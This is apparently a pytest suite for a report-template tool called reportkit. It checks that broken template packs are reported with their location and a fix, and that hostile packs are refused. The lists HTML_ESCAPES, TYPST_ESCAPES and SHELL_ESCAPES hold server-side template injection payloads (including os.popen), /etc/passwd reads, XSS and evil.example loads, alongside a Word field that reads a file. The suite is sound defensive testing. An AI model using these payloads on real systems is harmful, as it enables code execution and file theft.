"""Packs that are broken in many ways, each told with its place and its mend; and packs made to do harm, each refused."""

from __future__ import annotations

import json
import re
import shutil
import subprocess
import zipfile
from pathlib import Path

import pytest

from reportkit import api
from reportkit.api.packs import rendered_apart
from reportkit.config import Config, PaperConfig
from reportkit.errors import TemplateError, UnknownTemplate, UnsafeTemplate, WriteError
from reportkit.model.packs import PackProblem
from reportkit.model.paper import Pack
from reportkit.papers.pack import load_pack
from reportkit.papers.pack_check import examine_data
from reportkit.renderers.pack_trial import attempt, examine
from reportkit.renderers.word_package import entry
from tests.papers.eastmarch import paper
from tests.papers.packed import packed


@pytest.fixture
def mine(tmp_path: Path) -> Path:
    """A copy of generic-england that a test may spoil, with one sample."""
    folder = Path(shutil.copytree(load_pack("generic-england").folder, tmp_path / "mine"))
    (folder / "samples/bare.json").unlink()
    return folder


def change(folder: Path, file: str, old: str, new: str) -> None:
    """Change a file of a pack; the old words must be there. A shell's part is written as shell.docx:document."""
    name, _, part = file.partition(":")
    if not part:
        text = (folder / name).read_text(encoding="utf-8")
        assert old in text
        (folder / name).write_text(text.replace(old, new), encoding="utf-8")
        return
    with zipfile.ZipFile(folder / name) as package:
        parts = {item: package.read(item) for item in package.namelist()}
    target = part if part in parts else f"word/{part}.xml"
    assert old.encode() in parts[target]
    parts[target] = parts[target].replace(old.encode(), new.encode())
    with zipfile.ZipFile(folder / name, "w") as package:
        for item, data in parts.items():
            package.writestr(entry(item), data)


# What is done to a pack; then a part of the message, a part of the mend, and the story, table, row and column.
SHELL = {
    "a name that is misspelt": (
        "document", "{{ row.label }}", "{{ row.labl }}", "A row has no “labl”", "label", ("", 1, 3, 1)),
    "a name that no paper has": (
        "header1", "paper.council", "paper.counsel", "A paper has no “counsel”", "council", ("header", 0, 0, 0)),
    "a name that is not there at all": (
        "document", "{{ paper.title }}", "{{ title }}", "There is no “title”", "paper", ("", 0, 0, 0)),
    "a plain loop": (
        "document", "{%tr for row in paper.header %}", "{% for row in paper.header %}", "leaves an empty paragraph", "{%tr for",
        ("", 1, 1, 1)),
    "a loop never closed": (
        "document", "{%tr endfor %}", "", "This “for” is never closed", "endfor", ("", 1, 1, 1)),
    "an end that closes nothing": (
        "footer1", "{{ paper.foot }}", "{%p endif %}", "closes nothing", "Take it out", ("footer", 0, 0, 0)),
    "a tag not closed": (
        "document", "{{ row.value }}", "{{ row.value", "has no end in this paragraph", "one paragraph", ("", 1, 3, 2)),
    "a tag closed only": (
        "document", "{{ paper.title }}", "paper.title }}", "has no beginning", "one paragraph", ("", 0, 0, 0)),
    "a row's tag outside a table": (
        "document", "{{ paper.title }}", "{%tr if paper.title %}", "works in a table only", "{%p", ("", 0, 0, 0)),
    "words in the row of a tag": (
        "document", "{%tr else %}", "{%tr else %} Otherwise", "“Otherwise” with it", "row of its own", ("", 1, 4, 1)),
    "words in the paragraph of a tag": (
        "header1", "{{ paper.council }}", "{%p if paper.council %} Council", "with it", "paragraph of its own",
        ("header", 0, 0, 0)),
    "an expression that cannot be read": (
        "document", "{{ paper.title }}", "{{ paper..title }}", "cannot be read", "paper.title", ("", 0, 0, 0)),
    "a document inside the document": (
        "document", "{{ paper.title }}", "{{p paper.title }}", "prints words only", "{{ paper.title }}", ("", 0, 0, 0)),
    "a statement that is not allowed": (
        "document", "{{ paper.title }}", "{%p include 'x' %}", "may not be used", "for, if", ("", 0, 0, 0)),
    "a loop over nothing": (
        "document", "for row in paper.header", "for row", "says nothing of what it goes over", "for row in", ("", 1, 1, 1)),
    "guidance left over": (
        "footer1", "Page ", "[insert council] ", "left over", "take it out", ("footer", 0, 0, 0)),
    "a reach behind the paper": (
        "document", "{{ row.value }}", "{{ row.__class__ }}", "reaches behind", "Take that out", ("", 1, 3, 2)),
}  # fmt: skip


@pytest.mark.parametrize("name", SHELL)
def test_a_fault_of_the_shells_tags_is_told_with_its_place_and_mend(mine: Path, name: str) -> None:
    part, old, new, message, mend, place = SHELL[name]
    change(mine, f"shell.docx:{part}", old, new)
    found = [problem for problem in examine(load_pack(str(mine))) if message in problem.message]
    assert found, examine(load_pack(str(mine)))
    assert mend in found[0].mend
    assert (found[0].story, found[0].table, found[0].row, found[0].column) == place
    assert found[0].text
    assert found[0].place.startswith("shell.docx")


WORD = {
    "no style": (
        "styles", 'w:styleId="RKQuote"', 'w:styleId="RKQuot"', "The style “RK Quote”, for the role “quote”, is not",
        "Make a paragraph"),
    "a style of the wrong kind": ("styles", 'w:type="table" w:customStyle="1" w:styleId="RKTable"',
                                  'w:type="paragraph" w:customStyle="1" w:styleId="RKTable"', "is no table style",
        "Make it a table"),
    "a border that fails PDF/UA": ("styles", '<w:name w:val="RK Note"/><w:basedOn w:val="Normal"/><w:qFormat/><w:pPr>',
                                   '<w:name w:val="RK Note"/><w:basedOn w:val="Normal"/><w:qFormat/><w:pPr><w:pBdr/>',
        "border", "Take the border out"),
    "no place for the body": ("document", "rk_body", "elsewhere", "is not in it", "empty paragraph"),
    "a body inside words": ("document", '<w:bookmarkStart w:id="0" w:name="rk_body"/>',
                            '<w:bookmarkStart w:id="0" w:name="rk_body"/><w:r><w:t>Body here</w:t></w:r>',
        "empty paragraph of its own", "Move it"),
    "a page of US Letter": ("document", 'w:w="11906" w:h="16838"', 'w:w="12240" w:h="15840"', "The page is 216 by 279 mm", "A4"),
    "a narrow margin": ("document", 'w:left="1247"', 'w:left="600"', "left margin", "2 cm"),
    "American English": ("styles", 'w:val="en-GB"', 'w:val="en-US"', "Its language is en-US", "United Kingdom"),
    "hidden text": (
        "document", "<w:r><w:t xml:space", '<w:r><w:rPr><w:vanish/></w:rPr><w:t xml:space', "hidden text", "Take it out"),
    "a field that reads a file": (
        "footer1", ' PAGE ', ' INCLUDETEXT C:/secret.docx ', "read or run something", "Take the field out"),
    "a template fetched from elsewhere": (
        "word/_rels/document.xml.rels", "</Relationships>",
        '<Relationship Id="rId99" Type="http://x/attachedTemplate" '
        'Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>',
        "It would fetch https://evil.example/t.dotm", "take the link out"),
}  # fmt: skip


@pytest.mark.parametrize("name", WORD)
def test_a_fault_of_the_word_file_is_told_with_its_mend(mine: Path, name: str) -> None:
    part, old, new, message, mend = WORD[name]
    change(mine, f"shell.docx:{part}", old, new)
    found = [problem for problem in examine(load_pack(str(mine))) if message in problem.message]
    assert found, examine(load_pack(str(mine)))
    assert mend in found[0].mend


DATA = {
    "a key misspelt": ("pack.toml", "profile =", "profil =", "Unknown key “profil”", "profile", "profil ="),
    "no such nation": ("pack.toml", '"england"', '"englnd"', "“jurisdiction” must be one of", "england", "jurisdiction"),
    "a word missing": ("pack.toml", "lead_in =", "leadin =", "lacks “lead_in”", "lead_in = ", "[words]"),
    "a word unknown": ("pack.toml", "lead_in =", "leadin =", "unknown key “leadin”", "lead_in", "leadin ="),
    "not TOML": ("theme.toml", 'ink = "#1a1a1a"', "ink = #1a1a1a", "not valid TOML", "Mend that line", "ink = "),
    "a colour that is none": ("theme.toml", "#1a1a1a", "black", "“black” is no colour", "#1a2b3c", "ink = "),
    "pale text": (
        "theme.toml", 'muted = "#4a4f54"', 'muted = "#9aa0a6"', "“muted” on “paper” has a contrast of 2.6", "darker",
        "muted = "),
    "a colour missing": ("theme.toml", "focus =", "focs =", "no “focus”", "generic-england", ""),
    "a role missing": ("styles.toml", "quote =", "qoute =", "no style for the role “quote”", "quote = ", ""),
    "a section twice": ("sections.toml", 'key = "risk"', 'key = "legal"', "a second time", "Take one", 'key = "legal"'),
    "a level that is none": ("sections.toml", "level = 2", "level = 5", "has level 5", "level = 1 or", 'label = '),
    "a header field that no meeting has": (
        "sections.toml", 'key = "venue"', 'key = "venu"', "which no meeting has", "venue", '"venu"'),
    "something required that is not there": ("pack.toml", '"wards"', '"wrds"', "names “wrds”", "wards", "wrds"),
    "no recommendations": (
        "sections.toml", 'key = "recommendations"', 'key = "recomendations"', "“recommendations”, which every",
        "generic-england", ""),
    "a verb missing": ("pack.toml", '"note", ', "", "lacks “note”", "Add “note”", "verbs"),
    "one language where two were promised": (
        "pack.toml", "clear_days", 'label_language = "cy"\nclear_days', "in one language only", "one / the other",
        "label ="),
}  # fmt: skip


@pytest.mark.parametrize("name", DATA)
def test_a_fault_of_the_data_is_told_with_its_line_and_mend(mine: Path, name: str) -> None:
    file, old, new, message, mend, line = DATA[name]
    change(mine, file, old, new)
    found = [problem for problem in examine_data(mine) if message in problem.message]
    assert found, examine_data(mine)
    assert mend in found[0].mend
    assert line in found[0].text
    assert bool(found[0].line) == bool(line)


def test_what_a_pack_lacks_or_may_not_hold_is_told(mine: Path) -> None:
    (mine / "paper.typ").rename(mine / "run.py")
    (mine / "samples/whole.json").unlink()
    (mine / "html/more.css").symlink_to(mine / "html/paper.css")
    found = {problem.file: problem.message for problem in examine_data(mine)}
    assert "no paper.typ" in found["paper.typ"]
    assert "data only" in found["run.py"]
    assert "no sample" in found["samples"]
    assert "link" in found["html/more.css"]


PAGE = {
    "a name misspelt": ("paper.kicker", "paper.kiker", "A paper has no “kiker”"),
    "a block not closed": ("{% endif %}", "", "not a valid template"),
    "no language": (' lang="{{ paper.language }}"', "", "does not say its language"),
    "two headings of the first rank": ("<h2 id", "<h1>x</h1><h2 id", "<h1>, and needs one"),
    "a table without a caption": ('<caption class="quiet">{{ paper.caption }}</caption>', "", "no caption"),
    "words left out": (
        "<td role=\"cell\"{% if row.officer %} class=\"officer\"{% endif %}>{{ row.value }}</td>", "<td></td>",
        "is not printed"),
}  # fmt: skip


@pytest.mark.parametrize("name", PAGE)
def test_a_fault_of_the_web_template_is_told(mine: Path, name: str) -> None:
    old, new, message = PAGE[name]
    change(mine, "html/paper.html.j2", old, new)
    pack = load_pack(str(mine))
    found = [problem for problem in (*examine(pack), *attempt("html", paper(), pack)) if message in problem.message]
    assert found, (examine(pack), attempt("html", paper(), pack))
    assert found[0].file == "html/paper.html.j2"
    assert found[0].mend


def test_a_check_finds_every_fault_at_once_and_a_sound_pack_has_none(mine: Path) -> None:
    sound = api.check_pack(str(mine), Config())
    assert (sound.problems, sound.rendered) == ((), 3)
    change(mine, "theme.toml", 'muted = "#4a4f54"', 'muted = "#9aa0a6"')
    change(mine, "shell.docx:document", "{{ row.label }}", "{{ row.labl }}")
    change(mine, "paper.typ", "#title()", "#titel()")
    found = api.check_pack(str(mine), Config())
    assert {problem.file for problem in found.problems} == {"theme.toml", "shell.docx", "paper.typ"}
    assert found.rendered == 1
    assert "shell.docx, table 1, row 3, column 1" in {problem.place for problem in found.problems}
    assert [problem.row for problem in found.problems] == [0, 3, 5, 0]
    assert (found.problems[-1].file, found.problems[-1].text) == ("paper.typ", "#titel()")
    assert found.problems[-1].line


def test_an_unknown_pack_is_refused_and_a_ruined_shell_is_told(mine: Path) -> None:
    with pytest.raises(UnknownTemplate):
        api.check_pack("no-such-pack", Config())
    (mine / "shell.docx").write_bytes(b"PK not a zip")
    assert "no Word file" in next(problem.message for problem in examine(load_pack(str(mine))))


def test_a_preview_has_every_sample_in_every_form_and_replaces_nothing_unasked(tmp_path: Path) -> None:
    names = api.preview_pack("wales", tmp_path / "out", Config())
    assert names == ("bare.docx", "bare.html", "bare.pdf", "whole.docx", "whole.html", "whole.pdf")
    assert sorted(path.name for path in (tmp_path / "out").iterdir()) == list(names)
    assert (tmp_path / "out/whole.pdf").read_bytes().startswith(b"%PDF")
    with pytest.raises(WriteError):
        api.preview_pack("wales", tmp_path / "out", Config())


def test_what_the_child_renders_is_what_is_rendered_here(mine: Path) -> None:
    made, pack = packed("scotland")
    assert rendered_apart("html", made, pack, Config()) == api.render(made, "html", Config(paper=PaperConfig(pack="scotland")))
    mended = Config(paper=PaperConfig(pack=str(mine)))
    assert api.render(paper(), "docx", mended) == api.render(paper(), "docx", Config())


@pytest.mark.libreoffice
@pytest.mark.parametrize("name", ["wales", "haringey-like"])
def test_a_shell_that_was_edited_and_saved_elsewhere_still_serves(tmp_path: Path, name: str) -> None:
    mine = Path(shutil.copytree(load_pack(name).folder, tmp_path / "mine"))
    (mine / "samples/bare.json").unlink()
    profile = f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}"
    command = ["soffice", profile, "--headless", "--convert-to", "docx:MS Word 2007 XML", "--outdir", str(tmp_path)]
    subprocess.run([*command, str(mine / "shell.docx")], check=True, capture_output=True, timeout=200)
    assert (tmp_path / "shell.docx").read_bytes() != (mine / "shell.docx").read_bytes()
    shutil.copy(tmp_path / "shell.docx", mine / "shell.docx")
    found = api.check_pack(str(mine), Config())
    assert (found.problems, found.rendered) == ((), 3)


def test_packs_are_listed_with_nation_version_and_place(mine: Path) -> None:
    found = {pack.name: pack for pack in api.template_packs(Config(paper=PaperConfig(pack=str(mine))))}
    assert found["wales"].jurisdiction == "wales"
    assert found["wales"].clear_days == 3
    listed = api.template_packs(Config(paper=PaperConfig(pack=str(mine))))
    assert [pack.installed for pack in listed] == [True] * 4 + [False]
    assert Path(listed[-1].folder) == mine


HTML_ESCAPES = [
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ paper.__init__.__globals__ }}",
    "{{ ''|attr('__class__') }}",
    "{{ '{0.__class__.__mro__}'.format(paper) }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ lipsum.__globals__['os'] }}",
    "{{ self._TemplateReference__context.parent }}",
    "{{ (paper.parts|map(attribute='__class__')|list) }}",
    "{{ paper.targets.update({'a': 'b'}) }}",
    "{% include '../pack.toml' %}",
    "{% include '/etc/passwd' %}",
    "{% import 'os' as os %}",
    "{% extends '/etc/passwd' %}",
    "{{ open('/etc/passwd') }}",
    "{{ range(999999999)|list }}",
    "{{ ('a' * 99999999999) }}",
    "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}",
    "{% autoescape false %}{{ paper.title }}{% endautoescape %}",
    "{{ '<script>alert(1)</script>'|safe }}",
    "<script>alert(1)</script>",
    "<img src='https://evil.example/x.png' alt='x'>",
    "<p onclick='x()'>x</p>",
    "<a href='java\nscript:x()'>x</a>",
    "<iframe srcdoc='x'></iframe>",
    "<meta http-equiv='refresh' content='0;url=https://evil.example/'>",
    "<svg><image href='https://evil.example/x.png'/></svg>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<p style='background: url(https://evil.example/x.png)'>x</p>",
]


@pytest.mark.parametrize("escape", HTML_ESCAPES, ids=range(len(HTML_ESCAPES)))
def test_a_web_template_that_reaches_for_more_is_refused(mine: Path, escape: str) -> None:
    change(mine, "html/paper.html.j2", "<body>", "<body>" + escape)
    with pytest.raises(TemplateError) as caught:
        rendered_apart("html", paper(), load_pack(str(mine)), Config(), seconds=20)
    assert caught.value.code in ("RK503", "RK504")
    assert "root:" not in caught.value.message


TYPST_ESCAPES = [
    '#import "@preview/cetz:0.1.0": canvas', '#include "../../etc/passwd"', '#eval("1 + 1")', '#std.at("ev" + "al")("1")',
    '#dictionary(sys)', '#plugin("x.wasm")', '#read("/etc/passwd")', '#read("../../../../../../etc/passwd")',
    '#let f = read\n#f("/../../etc/passwd")', '#image("../../../secret.png")', "#let f() = f()\n#f()", "#while true {}",
]  # fmt: skip


@pytest.mark.parametrize("escape", TYPST_ESCAPES, ids=range(len(TYPST_ESCAPES)))
def test_a_page_setting_that_reaches_for_more_is_refused(mine: Path, escape: str) -> None:
    change(mine, "paper.typ", "#title()", "#title()\n" + escape)
    with pytest.raises(TemplateError, match=re.escape("paper.typ")) as caught:
        rendered_apart("pdf", paper(), load_pack(str(mine)), Config(), seconds=20)
    assert "root:" not in caught.value.message


SHELL_ESCAPES = [
    "{{ paper.__class__.__base__.__subclasses__() }}", "{{ ''|attr('__class__') }}", "{% include '/etc/passwd' %}",
    "{{ paper.title.__init__.__globals__ }}", "{{ '{0.__class__}'.format(paper) }}", "{{ 'a' * 99999999999 }}",
]  # fmt: skip


@pytest.mark.parametrize("escape", SHELL_ESCAPES, ids=range(len(SHELL_ESCAPES)))
def test_a_shell_that_reaches_for_more_is_refused(mine: Path, escape: str) -> None:
    change(mine, "shell.docx:document", "{{ paper.title }}", escape)
    with pytest.raises(TemplateError, match=re.escape("shell.docx")):
        rendered_apart("docx", paper(), load_pack(str(mine)), Config(), seconds=20)


ENDLESS = "{% for a in x %}" * 9 + "{% endfor %}" * 9


def test_a_pack_that_loops_for_ever_is_stopped_and_told(mine: Path) -> None:
    change(mine, "html/paper.html.j2", "<body>", "<body>{% set x = 'a' * 9999 %}" + ENDLESS)
    pack: Pack = load_pack(str(mine))
    with pytest.raises(UnsafeTemplate, match="not done in 3 seconds"):
        rendered_apart("html", paper(), pack, Config(), seconds=3)
    found = api.check_pack(str(mine), Config(), seconds=4)
    told: list[PackProblem] = [problem for problem in found.problems if problem.file == "html/paper.html.j2"]
    assert "was stopped" in told[0].message
    assert "loop" in told[0].mend


def test_a_strangers_pack_is_stopped_in_the_usual_line_of_work_too(mine: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    change(mine, "html/paper.html.j2", "<body>", "<body>{% set x = 'a' * 9999 %}" + ENDLESS)
    monkeypatch.setattr("reportkit.api.packs.rendered_apart.__kwdefaults__", {"seconds": 3})
    with pytest.raises(UnsafeTemplate, match="not done in 3 seconds"):
        api.render(paper(), "html", Config(paper=PaperConfig(pack=str(mine))))


def test_a_link_out_of_the_pack_is_refused_unread(mine: Path, tmp_path: Path) -> None:
    (tmp_path / "secret.txt").write_text("the secret", encoding="utf-8")
    (mine / "html/paper.css").unlink()
    (mine / "html/paper.css").symlink_to(tmp_path / "secret.txt")
    with pytest.raises(UnsafeTemplate, match="link to another place"):
        load_pack(str(mine))
    found = api.check_pack(str(mine), Config())
    assert "secret" not in json.dumps([[problem.message, problem.text] for problem in found.problems])
